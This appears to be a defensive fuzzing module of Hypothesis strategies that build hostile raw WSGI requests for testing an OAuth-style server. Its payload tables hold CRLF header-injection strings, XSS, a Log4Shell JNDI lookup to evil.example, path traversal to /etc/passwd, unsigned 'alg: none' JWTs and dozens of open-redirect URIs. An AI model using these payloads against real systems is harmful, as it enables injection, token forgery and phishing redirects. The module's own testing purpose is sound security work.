"""Hypothesis strategies for hostile input: random values, and the adversarial ones that broke servers before.

Values are text (any code point, lone surrogates, RTL overrides and NUL
included), megabyte values, huge numbers, broken base64/base64url and JSON,
CR/LF header injection, and open-redirect URIs. Requests are built as raw
WSGI input (:class:`Hostile`): method, path, content type, body bytes and
headers, so that anything a client could put on the wire can be tried.
"""

from __future__ import annotations

import base64
import functools
import json
from urllib.parse import quote

from hypothesis import strategies as st

#: one megabyte: a value no endpoint should read whole, let alone store
MEGABYTE = 1 << 20
#: a one-megabyte value, made once
HUGE = "x" * MEGABYTE


def huge() -> str:
    """:data:`HUGE` (drawn through ``st.builds(huge)``: a strategy's repr must not hold a megabyte)."""
    return HUGE


def huge_json() -> bytes:
    """A JSON object of more than a megabyte."""
    return b'{"pad": "' + HUGE.encode() + b'"}'


#: values that broke parsers and servers before (kept small enough to combine)
ADVERSARIAL_TEXT = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "\r\nSet-Cookie: stolen=1",
    "x\r\nLocation: https://evil.example",
    "\n",
    "\u202etxt.exe",  # RTL override
    "\u200b",
    "\ufeff",
    "\ud800",  # a lone surrogate: not encodable as UTF-8
    "\udcff",
    "\U0010ffff",
    "é",
    "%00",
    "%0d%0a",
    "%ff%fe",
    "%",
    "%%",
    "+",
    "&",
    "=",
    '"',
    "'",
    "\\",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "../../etc/passwd",
    "null",
    "true",
    "[]",
    "{}",
    '{"a":1,"a":2}',
    "NaN",
    "-1",
    "0",
    "1e309",
    "-0",
    "9" * 400,
    str(2**64),
    str(-(2**63) - 1),
    "0x41",
    "Bearer",
    "Basic",
    "DPoP",
    "===",
    "a.b.c",
    "..",
    "eyJ",
    "eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.",
    "eyJhbGciOiJIUzI1NiJ9.e30.e30",
    "!!!not-base64!!!",
    "x" * 5000,
)

#: redirect URIs an attacker would like a server to send a browser to (RFC 9700 §4.1, §4.11)
OPEN_REDIRECTS = (
    "https://evil.example",
    "https://evil.example/cb",
    "//evil.example",
    "///evil.example",
    "https://client.example.com@evil.example/cb",
    "https://client.example.com.evil.example/cb",
    "https://client.example.com/cb@evil.example",
    "https://client.example.com/cb/../../evil",
    "https://client.example.com/cb?next=https://evil.example",
    "https://client.example.com/cb#https://evil.example",
    "https://client.example.com/cb\\@evil.example",
    "https:\\\\evil.example",
    "https:/\\evil.example",
    "\\\\evil.example",
    "/\\evil.example",
    "https://client.example.com%2f@evil.example",
    "https://client.example.com%2Fcb",
    "https://client.example.com/cb%2f..%2f..%2fevil",
    "https://CLIENT.example.com/cb",
    "https://client.example.com:443/cb",
    "https://client.example.com/cb/",
    "https://client.example.com/CB",
    "http://client.example.com/cb",
    "javascript:alert(document.domain)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "https://client.example.com/cb\r\nLocation: https://evil.example",
    "https://client.example.com/cb\x00.evil.example",
    "https://evil.example\u3002com",
    "https://xn--e1afmkfd.example/cb",
    "https://client.example.com\u2025evil.example",
    " https://client.example.com/cb",
    "https://client.example.com/cb ",
    "http://127.0.0.1.evil.example/callback",
    "http://127.0.0.1@evil.example/callback",
    "http://localhost/callback",
    "http://[::1]:1/callback",
    "http://127.0.0.1:99999/callback",
    "http://127.0.0.1:-1/callback",
    "http://127.0.0.1:80/callback/../evil",
    "https://rp.example.com/signed-out@evil.example",
    "https://rp.example.com/signed-out/../out",
    "https://rp.example.com.evil.example/signed-out",
    "urn:ietf:wg:oauth:2.0:oob",
)

#: code points of every category, lone surrogates included
ANY_CHARACTER = st.characters(exclude_categories=())
#: random text of any code points, short enough to combine
random_text = st.text(ANY_CHARACTER, max_size=40)
#: printable ASCII, what a well-meaning client would send
ascii_text = st.text(st.characters(min_codepoint=0x20, max_codepoint=0x7E), max_size=40)


@functools.lru_cache(maxsize=512)
def hostile_text(*known: str) -> st.SearchStrategy[str]:
    """Any hostile string: random, adversarial, a megabyte, or ``known`` values (valid ones, mutated too)."""
    pieces = [st.sampled_from(ADVERSARIAL_TEXT), random_text, ascii_text, st.builds(huge)]
    if known:
        values = st.sampled_from(known)
        pieces.append(values)
        pieces.append(st.tuples(values, st.sampled_from(ADVERSARIAL_TEXT)).map("".join))
        pieces.append(st.tuples(values, st.integers(0, 64)).map(lambda pair: pair[0][: pair[1]]))
    return st.one_of(*pieces)


@functools.lru_cache(maxsize=64)
def redirect_uris(*registered: str) -> st.SearchStrategy[str]:
    """Open-redirect attempts, the registered URIs with something appended or percent-encoded, and random text."""
    pieces = [st.sampled_from(OPEN_REDIRECTS), hostile_text(*registered)]
    if registered:
        values = st.sampled_from(registered)
        pieces.append(values.map(quote))
        pieces.append(values.map(lambda uri: quote(uri, safe="")))
        pieces.append(st.tuples(values, st.sampled_from(OPEN_REDIRECTS)).map("".join))
    return st.one_of(*pieces)


def b64url(data: bytes) -> str:
    """Unpadded base64url, as JOSE writes it."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


#: JSON values of any shape (deep, large numbers, odd strings)
json_values = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**80), max_value=2**80)
    | st.floats(allow_nan=False, allow_infinity=False)
    | random_text,
    lambda children: st.lists(children, max_size=4) | st.dictionaries(random_text, children, max_size=4),
    max_leaves=12,
)


def json_bytes(base: st.SearchStrategy[dict] | None = None) -> st.SearchStrategy[bytes]:
    """JSON bodies: random values, ``base`` objects with hostile members, and bytes that are not JSON at all."""

    def dump(value: object) -> bytes:
        return json.dumps(value, ensure_ascii=False).encode("utf-8", "surrogatepass")

    pieces = [
        json_values.map(dump),
        st.sampled_from(
            [
                b"",
                b"{",
                b"{not json",
                b'{"a": 1, "a": 2}',
                b"NaN",
                b'{"x": NaN}',
                b'{"x": Infinity}',
                b"[" * 5000 + b"]" * 5000,
                b'{"client_name": "\xff\xfe"}',
                b"\xef\xbb\xbf{}",
                b'{"redirect_uris": ["https://evil.example"]}\x00',
                '{"x": "\ud800"}'.encode("utf-8", "surrogatepass"),
            ]
        ),
        st.binary(max_size=64),
        st.builds(huge_json),
    ]
    if base is not None:
        pieces.append(base.map(dump))
    return st.one_of(*pieces)


#: base64url segments that are not what they claim: padding, wrong alphabet, truncated, not JSON inside
broken_segments = st.one_of(
    st.sampled_from(["", "=", "e30=", "e30", "e3", "!!", "eyJ", "+/+/", "e30.e30", "bnVsbA", "W10", "MQ", "IiI"]),
    st.binary(max_size=40).map(b64url),
    json_values.map(lambda value: b64url(json.dumps(value).encode())),
    st.text(st.characters(min_codepoint=0x21, max_codepoint=0x7E), max_size=30),
)

#: compact JWS lookalikes: wrong segment counts, broken base64url, non-JSON headers
compact_jws_like = st.one_of(
    st.lists(broken_segments, min_size=1, max_size=5).map(".".join),
    hostile_text(),
)


def header_value(value: str) -> str:
    """``value`` as a WSGI environ holds a header: its UTF-8 bytes (surrogates passed) read as latin-1."""
    return value.encode("utf-8", "surrogatepass").decode("latin-1")


def basic(user: str, password: str) -> str:
    """A ``Basic`` Authorization header of ``user:password`` (UTF-8, surrogates passed through)."""
    pair = f"{user}:{password}".encode("utf-8", "surrogatepass")
    return "Basic " + base64.b64encode(pair).decode("ascii")


def authorization_headers(*valid: str) -> st.SearchStrategy[str | None]:
    """Authorization header values: none, ``valid`` ones, broken Basic/Bearer/DPoP, random text."""
    return st.one_of(
        st.none(),
        st.sampled_from(valid) if valid else st.nothing(),
        st.tuples(hostile_text(), hostile_text()).map(lambda pair: basic(*pair)),
        st.tuples(st.sampled_from(["Basic", "Bearer", "DPoP", "basic", "BEARER", "Digest", ""]), hostile_text()).map(
            " ".join
        ),
        st.sampled_from(["Basic", "Basic ", "Basic ====", "Basic Og==", "Bearer", "Bearer  x", "DPoP", "Basic \xff"]),
        hostile_text(),
    )


#: content types an endpoint should refuse or read with care
CONTENT_TYPES = (
    None,
    "application/x-www-form-urlencoded",
    "application/x-www-form-urlencoded; charset=utf-8",
    "application/x-www-form-urlencoded; charset=latin-1",
    "application/x-www-form-urlencoded; charset=utf-16",
    "application/x-www-form-urlencoded; charset=\x00",
    "APPLICATION/X-WWW-FORM-URLENCODED",
    "application/x-www-form-urlencoded, application/json",
    "application/json",
    "application/json; charset=utf-16",
    "text/plain",
    "multipart/form-data; boundary=x",
    "multipart/form-data",
    "application/jwt",
    "*/*",
    "",
    ";",
    "x\r\ny: z",
)

METHODS = ("POST", "POST", "POST", "GET", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "TRACE", "post", "PROPFIND")


def encode_form(pairs: list[tuple[str, str]]) -> bytes:
    """A form body of ``pairs`` percent-encoded as UTF-8, surrogates passed through as invalid bytes."""
    return "&".join(
        quote(name.encode("utf-8", "surrogatepass")) + "=" + quote(value.encode("utf-8", "surrogatepass"))
        for name, value in pairs
    ).encode("ascii")


class Hostile:
    """One raw request: what a WSGI app receives (its repr keeps megabyte values out of hypothesis' reports)."""

    def __init__(
        self,
        method: str = "POST",
        path: str = "/",
        query: bytes = b"",
        content_type: str | None = "application/x-www-form-urlencoded",
        body: bytes = b"",
        headers: dict[str, str] | None = None,
    ) -> None:
        self.method = method
        self.path = path
        self.query = query
        self.content_type = content_type
        self.body = body
        self.headers = headers or {}

    def __repr__(self) -> str:
        headers = {name: _short(value) for name, value in self.headers.items()}
        return (
            f"Hostile({self.method!r} {self.path!r} query={_short(self.query)} "
            f"content_type={self.content_type!r} body={_short(self.body)} headers={headers})"
        )

    def _repr_pretty_(self, printer: object, cycle: bool) -> None:
        printer.text(repr(self))  # type: ignore[attr-defined]


def _short(value: str | bytes, limit: int = 200) -> str:
    """``value``'s repr, cut to ``limit`` characters with its length said."""
    if len(value) <= limit:
        return repr(value)
    return f"{value[:limit]!r}...({len(value)} long)"


@st.composite
def form_requests(
    draw: st.DrawFn,
    path: str,
    params: dict[str, st.SearchStrategy[str]],
    required: dict[str, str],
    authorization: st.SearchStrategy[str | None],
    extra_headers: dict[str, st.SearchStrategy[str]] | None = None,
    valid_authorization: st.SearchStrategy[str | None] | None = None,
) -> Hostile:
    """A request to a form endpoint: mostly a well-formed POST carrying hostile values, sometimes broken framing.

    ``params`` are the endpoint's parameters and the strategies of their
    values; ``required`` the ones sent unless dropped (``grant_type``...).
    A parameter may be left out, repeated, or joined by random names. Given
    ``valid_authorization`` (the right client's credentials), half the
    requests are *tame*: well framed, authenticated, every required parameter
    there and at most two hostile ones, so that the grant's own checks are
    reached, not only the parsing in front of them.
    """
    tame = valid_authorization is not None and draw(st.booleans())
    pairs: list[tuple[str, str]] = [
        (name, value) for name, value in required.items() if tame or draw(st.integers(0, 9))
    ]
    for name in draw(st.lists(st.sampled_from(sorted(params)), max_size=2 if tame else len(params) + 2)):
        value = draw(params[name])
        given = [index for index, (existing, _) in enumerate(pairs) if existing == name]
        if given and (tame or draw(st.integers(0, 5))):  # mostly a hostile value instead of the valid one
            pairs[given[0]] = (name, value)
        else:
            pairs.append((name, value))
    if not tame and draw(st.integers(0, 9)) == 0:
        pairs += draw(st.lists(st.tuples(random_text, random_text), max_size=3))
    if not tame and pairs and draw(st.integers(0, 9)) == 0:
        pairs.append(draw(st.sampled_from(pairs)))  # a repeated parameter
    pairs = draw(st.permutations(pairs))
    body = encode_form(pairs)
    framing = 3 if tame else draw(st.integers(0, 19))
    if framing == 0:
        body = draw(st.binary(max_size=200))
    elif framing == 1:
        body = body.replace(b"%", b"%%")[: draw(st.integers(0, len(body)))]
    elif framing == 2:
        body = "&".join(f"{name}={value}" for name, value in pairs).encode("utf-8", "surrogatepass")
    content_type = (
        "application/x-www-form-urlencoded" if tame or draw(st.integers(0, 5)) else draw(st.sampled_from(CONTENT_TYPES))
    )
    headers = {}
    auth = draw(valid_authorization if tame and valid_authorization is not None else authorization)
    if auth is not None:
        headers["Authorization"] = header_value(auth)
    for name, values in (extra_headers or {}).items():
        if draw(st.booleans()):
            headers[name] = header_value(draw(values))
    if not tame and draw(st.integers(0, 9)) == 0:
        headers[draw(st.sampled_from(["X-Forwarded-Host", "Host", "Origin", "Cookie", "DPoP"]))] = header_value(
            draw(hostile_text())
        )
    method = "POST" if tame or draw(st.integers(0, 7)) else draw(st.sampled_from(METHODS))
    query = b""
    if not tame:
        names = st.sampled_from(sorted(params) or ["x"])
        query = encode_form(draw(st.lists(st.tuples(names, hostile_text()), max_size=2)))
    return Hostile(method, path, query, content_type, body, headers)


@st.composite
def query_requests(
    draw: st.DrawFn,
    path: st.SearchStrategy[str] | str,
    params: dict[str, st.SearchStrategy[str]],
    authorization: st.SearchStrategy[str | None],
    extra_headers: dict[str, st.SearchStrategy[str]] | None = None,
    required: dict[str, str] | None = None,
    valid_authorization: st.SearchStrategy[str | None] | None = None,
) -> Hostile:
    """A request carrying its parameters in the query: mostly GET, sometimes another method or a body too."""
    where = path if isinstance(path, str) else draw(path)
    hostile = draw(form_requests(where, params, required or {}, authorization, extra_headers, valid_authorization))
    if draw(st.integers(0, 4)):
        hostile.method = "GET" if draw(st.integers(0, 5)) else draw(st.sampled_from(METHODS))
        hostile.query, hostile.body = hostile.body, hostile.query
        if draw(st.booleans()):
            hostile.content_type = None
    return hostile
